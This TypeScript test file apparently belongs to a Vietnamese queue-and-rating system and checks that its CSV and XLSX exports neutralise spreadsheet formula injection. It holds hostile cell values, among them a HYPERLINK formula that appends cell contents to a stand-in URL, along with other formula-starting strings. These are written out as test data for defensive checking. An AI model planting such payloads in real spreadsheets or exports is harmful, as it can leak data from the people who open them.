import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Socket } from 'socket.io-client';
import { CSV_TABLES, startsFormula, uuidv7, type Ack, type RatingAckData } from '@onestop/shared';
import { Client, connected, deviceSocket, MONDAY_9AM, pairDevice, staffClient, startTestHub, TestClock, type TestHub } from '../kit/index.js';
import type { RunningHub } from '../helpers/procs.js';
import { RECEIVER_ADMIN_PASSWORD, postSummary, startReceiver, summary } from '../upstream/receiver-procs.js';

/**
 * Formula injection in exports (issue 11, finding 1): text from a kiosk, the API or a commune reaches every CSV the
 * project writes; no cell of any of them may start with = + - @ tab or CR (shared/src/csv.ts neutralises them), and
 * the XLSX files keep such text as text.
 */
const HYPERLINK = '=HYPERLINK("http://x"&A1,"Xem chi tiết")';
const PROCEDURE = '=1+1';
const FIELD = '@SUM(A1:A9)';
const COUNTER = '+Quầy 1';
const STAFF = '-2+3 Nguyễn Thị Lan';
/** the API trims these, so they are written straight into the file: an export must be safe whatever the file holds */
const TAB_COMMENT = '\t=1+2';
const CR_COMMENT = '\r=1+3';
const HOSTILE = [HYPERLINK, PROCEDURE, FIELD, COUNTER, STAFF, TAB_COMMENT, CR_COMMENT];

let h: TestHub;
let rx: RunningHub;
let rxCookie: string;
const sockets: Socket[] = [];

beforeAll(async () => {
  h = await startTestHub({ clock: new TestClock(MONDAY_9AM), prefix: 'csv-injection-' });
  // a procedure through the API for other software
  const { token } = h.hub.services.apiTokens.create({ name: 'phần mềm tỉnh' });
  const api = new Client(h.url, { authorization: `Bearer ${token}` });
  expect((await api.post('/api/v1/procedures', { code: 'HT-1', name: PROCEDURE, field: FIELD, processingDays: 0, fee: 0 })).status).toBe(201);
  // a counter through the admin pages, a staff member who receives and returns a file there
  const counter = (await h.admin.post('/api/admin/counters', { name: COUNTER, buttons: 4, minIntervalS: 0 })).body.data as { id: string };
  const { client } = await staffClient(h, counter.id, 'lan', STAFF);
  expect((await client.post('/api/staff/files', { code: 'R-1', procedureCode: 'HT-1', citizenName: 'Đinh Văn Hải', phone: '0912345678' })).status).toBe(201);
  await client.post('/api/staff/files/R-1/status', { status: 'ready' });
  expect((await client.post('/api/staff/files/R-1/status', { status: 'returned' })).status).toBe(200);
  // the citizen rates on the kiosk with a comment; two more ratings get tab / CR comments
  const dev = await pairDevice(h, counter.id, 'kiosk');
  const s = deviceSocket(h.url, dev.token);
  sockets.push(s);
  await connected(s);
  const ids: string[] = [];
  for (const comment of [HYPERLINK, 'tab', 'cr']) {
    h.clock.advance(20_000);
    const a = (await s.timeout(5000).emitWithAck('rating:submit', { id: uuidv7(h.clock.now()), source: 'touch', score: 2, deviceTime: h.clock.now(), comment })) as Ack<RatingAckData>;
    if (!a.ok) throw new Error(`rating refused: ${a.reason}`);
    ids.push(a.data.id);
  }
  h.db.prepare('UPDATE ratings SET comment = ? WHERE id = ?').run(TAB_COMMENT, ids[1]);
  h.db.prepare('UPDATE ratings SET comment = ? WHERE id = ?').run(CR_COMMENT, ids[2]);
  h.hub.services.audit.record({ id: null, name: '@quản trị' } as never, { kind: 'setting', action: TAB_COMMENT, target: CR_COMMENT });

  // the province receiver: a commune whose code starts with "-" and whose name is a formula
  rx = await startReceiver();
  const login = await fetch(`${rx.url}/api/province/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'admin', password: RECEIVER_ADMIN_PASSWORD }) });
  rxCookie = login.headers.get('set-cookie')!.split(';')[0]!;
  const added = await fetch(`${rx.url}/api/province/communes`, { method: 'POST', headers: { cookie: rxCookie, 'content-type': 'application/json' }, body: JSON.stringify({ code: '-2-3', name: HYPERLINK }) });
  expect(added.status).toBe(201);
  const secret = ((await added.json()) as { data: { secret: string } }).data.secret;
  const sent = await postSummary(rx.url, '-2-3', secret, JSON.stringify(summary('-2-3', HYPERLINK, '2026-11-20')));
  expect(sent.status, JSON.stringify(sent.body)).toBeLessThan(300);
}, 60_000);

afterAll(async () => {
  for (const s of sockets) s.close();
  await h?.close();
  await rx?.stop();
});

/** Every cell of a CSV as a spreadsheet would read it; asserts none starts a formula, answers the cells. */
function safeCells(name: string, bytes: Buffer): string[] {
  expect([...bytes.subarray(0, 3)], name).toEqual([0xef, 0xbb, 0xbf]);
  const cells = (parse(bytes, { bom: true, relax_column_count: false }) as string[][]).flat();
  const bad = cells.filter(startsFormula);
  expect(bad, `${name}: cells that start a formula`).toEqual([]);
  return cells;
}

async function download(url: string, cookie: string): Promise<Buffer> {
  const res = await fetch(url, { headers: { cookie } });
  expect(res.status, url).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

async function statsExport(body: unknown): Promise<Buffer> {
  const start = await h.admin.post<{ id: string }>('/api/admin/exports', body);
  expect(start.status, JSON.stringify(start.body)).toBe(202);
  await h.hub.services.exports.idle();
  const job = (await h.admin.get<{ id: string; status: string }>(`/api/admin/exports/${start.body.data!.id}`)).body.data!;
  expect(job.status).toBe('done');
  return download(`${h.url}/api/admin/exports/${job.id}/file`, h.admin.cookie!);
}

const TODAY = { kind: 'day', date: '2026-11-23' } as const;

/** Every text cell of a workbook; asserts none is a formula. */
async function workbookTexts(name: string, bytes: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((c) => {
        expect(c.type, `${name} ${ws.name}!${c.address}`).not.toBe(ExcelJS.ValueType.Formula);
        if (c.type === ExcelJS.ValueType.String) texts.push(c.value as string);
      }),
    ),
  );
  return texts;
}

describe('every CSV export neutralises cells that would start a formula', () => {
  it('the statistics CSVs, every table: the hostile texts are there, each behind a single quote', async () => {
    const seen = new Set<string>();
    for (const kind of CSV_TABLES) {
      for (const cell of safeCells(kind, await statsExport({ format: 'csv', kind, range: TODAY }))) seen.add(cell);
    }
    for (const v of HOSTILE) expect(seen, JSON.stringify(v)).toContain(`'${v}`);
  });

  it('the audit log CSV', async () => {
    const cells = safeCells('audit', await download(`${h.url}/api/admin/audit/export.csv?from=2026-11-23&to=2026-11-23`, h.admin.cookie!));
    expect(cells).toContain("'@quản trị");
    expect(cells).toContain(`'${TAB_COMMENT}`);
    expect(cells).toContain(`'${CR_COMMENT}`);
  });

  it('the province receiver’s CSVs, per commune and per day', async () => {
    for (const kind of ['communes', 'days']) {
      const cells = safeCells(kind, await download(`${rx.url}/api/province/export.csv?from=2026-11-20&to=2026-11-20&kind=${kind}`, rxCookie));
      expect(cells).toContain(`'${HYPERLINK}`);
      expect(cells).toContain("'-2-3");
    }
  });

  it('numbers stay bare numbers', async () => {
    const rows = parse(await statsExport({ format: 'csv', kind: 'counter', range: TODAY }), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows[0]!['Số lượt']).toBe('3');
  });
});

describe('XLSX exports keep such text as text', () => {
  it('the statistics workbook, the report, the audit log and the province workbook: strings, never formulas', async () => {
    const stats = await workbookTexts('stats', await statsExport({ format: 'xlsx', kind: 'stats', range: TODAY }));
    for (const v of [HYPERLINK, PROCEDURE, FIELD, COUNTER, STAFF]) expect(stats).toContain(v);
    await workbookTexts('report', await statsExport({ format: 'xlsx', kind: 'report', range: TODAY }));
    expect(await workbookTexts('audit', await download(`${h.url}/api/admin/audit/export.xlsx?from=2026-11-23&to=2026-11-23`, h.admin.cookie!))).toContain('@quản trị');
    expect(await workbookTexts('province', await download(`${rx.url}/api/province/export.xlsx?from=2026-11-20&to=2026-11-20`, rxCookie))).toContain(HYPERLINK);
  });
});
